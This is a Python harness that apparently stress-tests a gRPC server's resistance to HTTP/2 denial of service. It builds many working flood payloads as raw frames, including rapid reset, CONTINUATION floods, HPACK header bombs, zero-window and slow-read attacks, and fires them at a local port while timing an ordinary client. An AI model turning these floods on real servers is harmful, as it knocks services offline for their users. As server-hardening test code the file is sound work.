"""Attackers on raw sockets, a careful caller beside them, and a sink to compare with: each in a process of its own.

As a program it is one worker: it takes a task as a line of JSON on standard input and answers with a line on standard
output, one after the other. The same bytes go at the same pace to a server and to the sink, which throws them away, so
that what the attacker itself takes of the processors is in both figures and what the server adds is the difference.
"""

import errno
import json
import os
import select
import socket
import struct
import subprocess
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAKE_ID = "/pb.IDMaker/MakeIDService"
BATCH = "/mid.v1.IDService/GenerateBatch"
# The DATA of reflection's answer to a name of 60,000 bytes that it does not know.
ECHO_BYTES = 60_047
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
STREAM = "/mid.v1.IDService/StreamIDs"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, indexing=0x00):
    """One header without Huffman coding; with `indexing` 0x40 the table remembers it."""

    def text(string):
        data = string.encode()
        return integer(len(data), 7) + data

    return bytes([indexing]) + text(name) + text(value)


def integer(value, bits, first=0):
    """An integer of RFC 7541, section 5.1."""
    mask = (1 << bits) - 1
    if value < mask:
        return bytes([first | value])
    out = [first | mask]
    value -= mask
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def head(path=MAKE_ID, extra=()):
    """The header block of one call."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "a"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    return b"".join(literal(*field) for field in [*fields, *extra])


def message(body):
    return struct.pack(">BI", 0, len(body)) + body


def mode(name):
    """The request of MakeIDService."""
    return message(b"\x0a" + bytes([len(name)]) + name.encode())


def batch(name, count, tag=""):
    """The request of GenerateBatch."""
    fields = b"\x0a" + bytes([len(name)]) + name.encode()
    if tag:
        fields += b"\x12" + bytes([len(tag)]) + tag.encode()
    return message(fields + integer_field(3, count))


def integer_field(number, value):
    out = bytes([number << 3])
    while value >= 128:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def call(stream, body, path_head=None):
    """One whole request."""
    return frame(HEADERS, END_HEADERS, stream, path_head or head()) + frame(DATA, END_STREAM, stream, body)


def setting(number, value):
    return struct.pack(">HI", number, value)


# --- The floods: each gives the pieces that one connection sends, in order.

HEAD = head()
# As much as a window may grow: a reader that never has to say that it has read.
WIDE = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x3FFF_FFFF))
FLOODS = {}


def flood(pieces):
    """Has the attacker know a flood by its name."""
    FLOODS[pieces.__name__] = pieces
    return pieces


def steps(count, unit, size=100, before=b""):
    """Pieces of `size` steps each, `before` in front."""
    pieces = [
        b"".join(unit(number) for number in range(first, min(first + size, count))) for first in range(0, count, size)
    ]
    return [before + pieces[0], *pieces[1:]]


def repeated(count, data, before=b"", size=100):
    return steps(count, lambda _: data, size, before)


def opened(number):
    return frame(HEADERS, END_HEADERS, 2 * number + 1, HEAD)


def reset(number, code=8):
    return frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", code))


def on_stream(kind, flags, payload):
    """A frame on the stream that the same step opens."""
    return lambda n: opened(n) + frame(kind, flags, 2 * n + 1, payload)


@flood
def rapid_reset():
    return steps(4000, lambda n: opened(n) + reset(n))


@flood
def reset_of_waiting_calls():
    block, body = head(BATCH), batch("segment", 1_000_000, "tiny")
    return steps(4000, lambda n: call(2 * n + 1, body, block) + reset(n))


@flood
def provoked_window_update_of_zero():
    return steps(4000, on_stream(WINDOW_UPDATE, 0, struct.pack(">I", 0)))


@flood
def provoked_window_overflow():
    return steps(4000, on_stream(WINDOW_UPDATE, 0, struct.pack(">I", 0x7FFF_FFFF)))


@flood
def provoked_malformed_priority():
    return steps(4000, on_stream(PRIORITY, 0, bytes(4)))


@flood
def provoked_data_after_the_end():
    body = frame(DATA, END_STREAM, 0, b"")
    return steps(
        4000,
        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, HEAD)
        + body[:5]
        + struct.pack(">I", 2 * n + 1)
        + frame(DATA, 0, 2 * n + 1, b"x"),
    )


@flood
def provoked_malformed_heads():
    block = HEAD + literal("Upper-Case", "x")
    return steps(4000, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block))


@flood
def provoked_overlong_messages():
    return steps(4000, on_stream(DATA, 0, struct.pack(">BI", 0, 1_000_000) + bytes(10)))


def continuation(size, count):
    return lambda: repeated(count, frame(CONTINUATION, 0, 1, bytes(size)), frame(HEADERS, 0, 1, HEAD), 16)


@flood
def ping():
    return [frame(PING, 0, 0, bytes(8))] * 1000


@flood
def ping_ack():
    return repeated(30_000, frame(PING, ACK, 0, bytes(8)), size=500)


@flood
def settings():
    return repeated(30_000, frame(SETTINGS), size=500)


@flood
def settings_full():
    return repeated(200, frame(SETTINGS, payload=setting(0x99, 1) * 2730), size=1)


@flood
def settings_that_move_every_window():
    before = b"".join(opened(n) for n in range(1000))
    pair = frame(SETTINGS, payload=setting(4, 0)) + frame(SETTINGS, payload=setting(4, 65_535))
    return repeated(15_000, pair, before, size=100)


@flood
def empty_data():
    return repeated(30_000, frame(DATA, 0, 1), opened(0), size=500)


@flood
def padded_empty_data():
    # 256 bytes each: within the windows that the server gives back.
    return repeated(30_000, frame(DATA, 8, 1, b"\x00"), opened(0), size=500)


@flood
def priority():
    return repeated(30_000, frame(PRIORITY, 0, 1, bytes(5)), size=500)


@flood
def window_update():
    return repeated(30_000, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), size=500)


@flood
def unknown_frames():
    return repeated(30_000, frame(0xEE, 0xFF, 7, b"?"), size=500)


@flood
def header_list_bomb():
    # 4,000 bytes in the table, then one byte for each copy of them.
    bomb = literal("x", "y" * 4000, 0x40) + b"\xbe" * 10_000
    return [frame(HEADERS, END_HEADERS, 1, HEAD + bomb)] * 50


@flood
def table_evictions():
    # Each entry puts an older one out; no call ever comes whole, so that nothing pays for it.
    def unit(n):
        fields = b"".join(literal(f"k{n % 7}{each}", "v" * 60, 0x40) for each in range(4))
        return frame(HEADERS, END_HEADERS, 2 * n + 1, HEAD + fields)

    return steps(14_000, unit, 250)


@flood
def table_size_updates():
    block = integer(0, 5, 0x20) + integer(4096, 5, 0x20) + HEAD
    return steps(14_000, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block), 250)


@flood
def table_size_past_the_setting():
    return [frame(HEADERS, END_HEADERS, 1, integer(1 << 20, 5, 0x20) + HEAD)] * 10


@flood
def table_huge_integers():
    return [frame(HEADERS, END_HEADERS, 1, HEAD + b"\xff" + b"\xff" * 2000 + b"\x7f")] * 10


@flood
def connection_window_overflow():
    return [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF_FFFF))] * 10


@flood
def data_past_the_window():
    # One byte of a message on each of 200 streams, then far more than all windows together without waiting for any.
    return [b"".join(opened(n) for n in range(200))] + [
        b"".join(frame(DATA, 0, 2 * n + 1, b"\x00\x00\x00\xff\xff" + bytes(16_000)) for n in range(first, first + 10))
        for first in range(0, 200, 10)
    ]


@flood
def zero_window():
    """Calls whose replies may never leave."""
    block, body = head(BATCH), batch("segment", 200)
    calls = b"".join(call(2 * n + 1, body, block) for n in range(900))
    return [frame(SETTINGS, payload=setting(4, 0)) + calls]


@flood
def window_byte_by_byte():
    """A reply of some thousand bytes that may leave one byte at a time, then WINDOW_UPDATEs that nothing waits for."""
    before = frame(SETTINGS, payload=setting(4, 0)) + call(1, batch("snowflake", 200_000), head(BATCH))
    return repeated(30_000, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), before, size=200)


@flood
def half_sent_requests():
    """As many bytes of requests that never come whole as the connection's window lets in."""
    data = b"\x00\x00\x00\xff\xff" + bytes(15_995)
    return [opened(n) + frame(DATA, 0, 2 * n + 1, data) for n in range(60)]


@flood
def unread_replies():
    """Calls without end from somebody who reads none of the replies: a socket that fills up."""
    block, body = head(BATCH), batch("segment", 1)
    return steps(400_000, lambda n: call(2 * n + 1, body, block), 1000, WIDE)


@flood
def huge_batches():
    """The largest batches from a tag of step 1, as many in one burst as may be open."""
    block, body = head(BATCH), batch("segment", 1_000_000, "tiny")
    return steps(20_000, lambda n: call(2 * n + 1, body, block), 500)


@flood
def snowflake_batches():
    """The batches whose replies are the longest for what is asked."""
    block, body = head(BATCH), batch("snowflake", 1_000_000)
    return steps(20_000, lambda n: call(2 * n + 1, body, block), 100, WIDE)


@flood
def rapid_reset_of_streams():
    block = head(STREAM)
    return steps(30_000, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block) + reset(n))


@flood
def empty_data_on_a_stream():
    return repeated(30_000, frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, head(STREAM)), size=200)


@flood
def messages_of_a_stream():
    """Messages without end on one call, as many as are answered at once."""
    before = WIDE + frame(HEADERS, END_HEADERS, 1, head(STREAM)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x3FFF_FFFF))
    return repeated(400_000, frame(DATA, 0, 1, batch("segment", 1)), before)


@flood
def zero_window_of_streams():
    """Calls of many messages whose replies may never leave, with a second message behind each."""
    block, body = head(STREAM), batch("segment", 200)
    one = lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block) + 2 * frame(DATA, 0, 2 * n + 1, body)  # noqa: E731
    return [frame(SETTINGS, payload=setting(4, 0)) + b"".join(one(n) for n in range(900))]


@flood
def half_sent_messages():
    """As half_sent_requests, on calls of many messages."""
    block, data = head(STREAM), b"\x00\x00\x00\xff\xff" + bytes(15_995)
    return [frame(HEADERS, END_HEADERS, 2 * n + 1, block) + frame(DATA, 0, 2 * n + 1, data) for n in range(60)]


def in_frames(stream, body, end=False):
    """DATA frames of the usual size."""
    parts = [body[first : first + 16_384] for first in range(0, len(body), 16_384)]
    return b"".join(
        frame(DATA, END_STREAM if end and part is parts[-1] else 0, stream, part) for part in parts
    )


def long_field(number, length):
    """A field that no message has, of so many bytes."""
    return bytes([number << 3 | 2]) + integer_field(0, length)[1:] + bytes(length)


@flood
def rests_of_messages():
    """A long message on each of many calls, and one byte of the next."""
    block = head(STREAM)
    fields = b"\x0a\x07segment" + integer_field(3, 1) + long_field(15, 65_000)
    body = message(fields) + b"\x00"
    return steps(
        900, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block) + in_frames(2 * n + 1, body), 2, WIDE
    )


@flood
def rests_of_replies():
    """A long reply to each of many calls, of which the last byte may not leave."""
    block, name = head(REFLECTION), b"x" * 60_000
    body = message(b"\x22" + integer_field(0, len(name))[1:] + name)
    return steps(
        900,
        lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block) + in_frames(2 * n + 1, body),
        2,
        frame(SETTINGS, payload=setting(4, ECHO_BYTES - 1)) + WIDE,
    )


@flood
def pause_and_break():
    """Replies that are too many for one turn, and then a frame that ends the connection."""
    name = b"mid.v1.IDService"
    one = message(b"\x22" + bytes([len(name)]) + name)
    opened_wide = WIDE + frame(HEADERS, END_HEADERS, 1, head(REFLECTION)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x3FFF_FFFF))
    return [opened_wide + frame(DATA, 0, 1, one * 700) + b"\x00\x40\x01\x00\x00\x00\x00\x00\x01"]


@flood
def colliding_streams():
    """Half-open calls whose numbers all want one place in a table of a power of two."""
    return steps(900, lambda n: frame(HEADERS, END_HEADERS, 4096 * n + 1, HEAD), 100)


@flood
def stream_message_that_trickles():
    before = frame(HEADERS, END_HEADERS, 1, head(STREAM))
    return [before, *(frame(DATA, 0, 1, bytes([each])) for each in b"\x00\x00\x00\x10\x00" + bytes(60))]


@flood
def unread_messages():
    """Messages without end on one call, each with a far larger reply, from somebody who reads none of them."""
    before = WIDE + frame(HEADERS, END_HEADERS, 1, head(REFLECTION)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x3FFF_FFFF))
    name = b"mid.v1.IDService"
    return repeated(400_000, frame(DATA, 0, 1, message(b"\x22" + bytes([len(name)]) + name)), before)


@flood
def unknown_methods():
    block = head("/no.Such/Method")
    return steps(100_000, lambda n: call(2 * n + 1, mode("segment"), block))


# --- Those that wait instead of sending


@flood
def silence():
    return []


@flood
def preface_that_trickles():
    return [bytes([each]) for each in PREFACE[:-1]]


@flood
def preface_alone():
    return [PREFACE]


@flood
def frame_that_trickles():
    data = frame(HEADERS, END_HEADERS, 1, HEAD + literal("x", "y" * 100))
    return [data[:20], *(bytes([each]) for each in data[20:80])]


@flood
def header_block_that_trickles():
    return [frame(HEADERS, 0, 1, HEAD), *[frame(CONTINUATION, 0, 1, b"")] * 50]


@flood
def message_that_trickles():
    return [opened(0), *(frame(DATA, 0, 1, bytes([each])) for each in b"\x00\x00\x00\x10\x00" + bytes(60))]


FLOODS |= {
    "continuation_of_one_byte": continuation(1, 2000),
    "continuation_of_nothing": continuation(0, 2000),
    "continuation_of_whole_frames": continuation(16_384, 2000),
}


# --- Workers


class Incoming:
    """What a connection has been sent, as frames: (type, flags, stream, payload)."""

    def __init__(self):
        self.buffer = b""

    def take(self, data):
        buffer = self.buffer + data
        offset, frames = 0, []
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset : offset + 3], "big")
            if len(buffer) - offset - 9 < length:
                break
            kind, flags, stream = struct.unpack_from(">BBI", buffer, offset + 3)
            frames.append((kind, flags, stream, buffer[offset + 9 : offset + 9 + length]))
            offset += 9 + length
        self.buffer = buffer[offset:]
        return frames


class Attacker:
    """One connection of an attack."""

    def __init__(self, port, pieces, reads, greets):
        self.socket = socket.socket()
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.pieces, self.next, self.left = pieces, 0, PREFACE + frame(SETTINGS) if greets else b""
        self.reads, self.incoming = reads, Incoming()
        self.began = time.monotonic()
        self.outcome = {"goaway": None, "ended": False, "sent": 0, "received": 0, "kinds": {}}

    def send(self):
        """Sends the next piece, or what is left of the last one."""
        if not self.left and self.next < len(self.pieces):
            self.left = self.pieces[self.next]
            self.next += 1
        try:
            while self.left:
                count = self.socket.send(self.left)
                self.outcome["sent"] += count
                self.left = self.left[count:]
        except BlockingIOError:
            pass
        except OSError:
            self.left = b""
            self.read(force=True)
            self.end()

    def read(self, force=False):
        while (self.reads or force) and not self.outcome["ended"]:
            try:
                data = self.socket.recv(1 << 18)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if not data:
                return self.end()
            self.outcome["received"] += len(data)
            for kind, _, stream, payload in self.incoming.take(data):
                self.note(kind, stream, payload)

    def note(self, kind, stream, payload):
        kinds = self.outcome["kinds"]
        key = f"{kind}:{int.from_bytes(payload, 'big')}" if kind == RST_STREAM else str(kind)
        kinds[key] = kinds.get(key, 0) + 1
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.outcome["goaway"] = [code, payload[8:].decode(errors="replace")]

    def end(self):
        if not self.outcome["ended"]:
            self.outcome["ended"] = True
            self.outcome["seconds"] = round(time.monotonic() - self.began, 3)
            self.socket.close()


def attack(flood, port, start, seconds, pace, connections=1, reads=True, greets=True, most=60):
    """Sends a flood: a piece every `pace` seconds on each of `connections` connections, a new one for each that is ended.

    No more than `most` connections a second, as opening them is a load of its own. Gives every connection's outcome.
    """
    pieces = FLOODS[flood]()
    open_ones, outcomes, tokens = [], [], float(connections)
    start = max(start, time.monotonic())
    time.sleep(max(0.0, start - time.monotonic()))
    end, due = start + seconds, time.monotonic()
    while (now := time.monotonic()) < end:
        while len(open_ones) < connections and tokens >= 1:
            tokens -= 1
            try:
                open_ones.append(Attacker(port, pieces, reads, greets))
            except OSError as error:
                if error.errno not in (errno.ECONNRESET, errno.ECONNREFUSED, errno.ETIMEDOUT):
                    raise
        for each in open_ones:
            each.read()
            if not each.outcome["ended"]:
                each.send()
        outcomes += [each.outcome for each in open_ones if each.outcome["ended"]]
        open_ones = [each for each in open_ones if not each.outcome["ended"]]
        due = max(due + pace, now - 0.05)
        tokens = min(float(connections), tokens + most * pace)
        time.sleep(max(0.0, due - time.monotonic()))
    # What was ended by now says so within a moment.
    limit = time.monotonic() + 0.1
    while open_ones and time.monotonic() < limit and any(not each.outcome["ended"] for each in open_ones):
        time.sleep(0.02)
        for each in open_ones:
            each.read()
    for each in open_ones:
        outcomes.append(each.outcome)
        each.socket.close()
    return outcomes


def careful(port, start, seconds, rate, body=mode("segment")):
    """Calls at a constant rate on one connection, each timed from when it was due.

    Gives the latencies in seconds, and what went wrong. A call that fails has no DATA, one that is never answered no end.
    """
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK) + WIDE)
    incoming, dues, latencies, bodies, errors = Incoming(), {}, [], {}, []
    stream, count = 1, int(seconds * rate)
    connection.sendall(call(stream, body))
    while not any(kind == HEADERS and flags & END_STREAM for kind, flags, _, _ in incoming.take(connection.recv(65536))):
        pass
    time.sleep(max(0.0, start - time.monotonic()))
    sent, limit = 0, start + seconds + 5
    while (sent < count or dues) and time.monotonic() < limit:
        now = time.monotonic()
        while sent < count and now >= start + sent / rate:
            stream += 2
            dues[stream] = start + sent / rate
            connection.sendall(call(stream, body))
            sent += 1
        wait = start + sent / rate - now if sent < count else limit - now
        if not select.select([connection], [], [], max(0.0, wait))[0]:
            continue
        data, now = connection.recv(65536), time.monotonic()
        if not data:
            errors.append("the connection was closed")
            break
        for kind, flags, number, payload in incoming.take(data):
            if kind == DATA:
                bodies[number] = payload
            elif kind == HEADERS and flags & END_STREAM:
                latencies.append(now - dues.pop(number))
                if number not in bodies:
                    errors.append(f"stream {number} failed: {payload!r}")
            elif kind in (RST_STREAM, GOAWAY):
                errors.append(f"a frame of type {kind} on stream {number}: {payload!r}")
                dues.pop(number, None)
            elif kind == PING and not flags & ACK:
                connection.sendall(frame(PING, ACK, 0, payload))
    connection.close()
    errors += [f"stream {number} was never answered" for number in dues]
    if len(set(bodies.values())) != len(bodies):
        errors.append("two calls have the same id")
    return {"latencies": latencies, "errors": errors}


def sink():
    """Takes connections, reads what they send and throws it away. Gives its port."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)

    def run():
        sockets = {listener.fileno(): listener}
        poll = select.epoll()
        poll.register(listener, select.EPOLLIN)
        while True:
            for number, _ in poll.poll():
                if number == listener.fileno():
                    accepted, _ = listener.accept()
                    sockets[accepted.fileno()] = accepted
                    poll.register(accepted, select.EPOLLIN)
                    continue
                try:
                    gone = not sockets[number].recv(1 << 18)
                except OSError:
                    gone = True
                if gone:
                    poll.unregister(number)
                    sockets.pop(number).close()

    threading.Thread(target=run, daemon=True).start()
    return listener.getsockname()[1]


class Worker:
    """A process that does one of the above, named by `task`, when it is asked to."""

    def __init__(self):
        self.process = subprocess.Popen(
            [sys.executable, "-B", os.path.abspath(__file__)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )

    def ask(self, task, **arguments):
        self.process.stdin.write(json.dumps([task, arguments]) + "\n")
        self.process.stdin.flush()
        return self

    def answer(self):
        line = self.process.stdout.readline()
        assert line, f"a worker ended with {self.process.wait(5)}"
        return json.loads(line)

    def stop(self):
        self.process.kill()
        self.process.wait()


if __name__ == "__main__":
    tasks = {"attack": attack, "careful": careful, "sink": sink}
    for line in sys.stdin:
        name, arguments = json.loads(line)
        print(json.dumps(tasks[name](**arguments)), flush=True)
